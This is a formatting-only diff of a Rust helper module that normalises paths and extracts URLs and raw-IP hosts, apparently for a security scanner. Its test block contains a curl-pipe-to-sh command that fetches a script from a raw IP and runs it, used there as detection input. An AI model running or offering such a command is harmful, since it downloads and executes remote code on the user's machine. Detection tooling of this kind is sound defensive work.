@@ -3,7 +3,13 @@
 /// Normalises a path for matching: lowercase, `/` separators, home forms as `~`.
 pub fn normalize(path: &str) -> String {
     let p = path.replace('\\', "/").to_ascii_lowercase();
-    for home in ["$home", "${home}", "%userprofile%", "%homepath%", "%homedrive%%homepath%"] {
+    for home in [
+        "$home",
+        "${home}",
+        "%userprofile%",
+        "%homepath%",
+        "%homedrive%%homepath%",
+    ] {
         if let Some(rest) = p.strip_prefix(home) {
             return format!("~{rest}");
         }
@@ -26,15 +32,22 @@ pub fn is_home(path: &str) -> bool {
 /// Caches and per-user data folders that libraries legitimately fill when called.
 pub fn is_cache(path: &str) -> bool {
     let p = normalize(path);
-    p.starts_with("~/.cache/") || p.starts_with("~/.local/share/") || p.contains("/appdata/local/temp/")
+    p.starts_with("~/.cache/")
+        || p.starts_with("~/.local/share/")
+        || p.contains("/appdata/local/temp/")
 }
 
 /// The first http(s)/ftp URL in a text.
 pub fn find_url(text: &str) -> Option<String> {
-    let start = ["http://", "https://", "ftp://"].iter().filter_map(|s| text.find(s)).min()?;
+    let start = ["http://", "https://", "ftp://"]
+        .iter()
+        .filter_map(|s| text.find(s))
+        .min()?;
     let url: String = text[start..]
         .chars()
-        .take_while(|c| !c.is_whitespace() && !matches!(c, '"' | '\'' | '`' | '<' | '>' | ')' | '|' | ';'))
+        .take_while(|c| {
+            !c.is_whitespace() && !matches!(c, '"' | '\'' | '`' | '<' | '>' | ')' | '|' | ';')
+        })
         .collect();
     (url.len() > 8).then_some(url)
 }
@@ -50,7 +63,9 @@ pub fn host(url: &str) -> &str {
 /// True when a URL's host is a bare IPv4 address.
 pub fn is_raw_ip(url: &str) -> bool {
     let h = host(url);
-    h.split('.').count() == 4 && h.split('.').all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|b| b.is_ascii_digit()))
+    h.split('.').count() == 4
+        && h.split('.')
+            .all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|b| b.is_ascii_digit()))
 }
 
 #[cfg(test)]
@@ -63,7 +78,10 @@ mod tests {
         assert!(is_home("%APPDATA%\\Microsoft\\x.exe"));
         assert!(is_home("$HOME/.config/x"));
         assert!(!is_home("/tmp/x"));
-        assert_eq!(find_url("curl -s http://192.0.2.7:8080/p.sh|sh").as_deref(), Some("http://192.0.2.7:8080/p.sh"));
+        assert_eq!(
+            find_url("curl -s http://192.0.2.7:8080/p.sh|sh").as_deref(),
+            Some("http://192.0.2.7:8080/p.sh")
+        );
         assert!(is_raw_ip("http://192.0.2.7:8080/p"));
         assert!(!is_raw_ip("https://example.com/p"));
     }
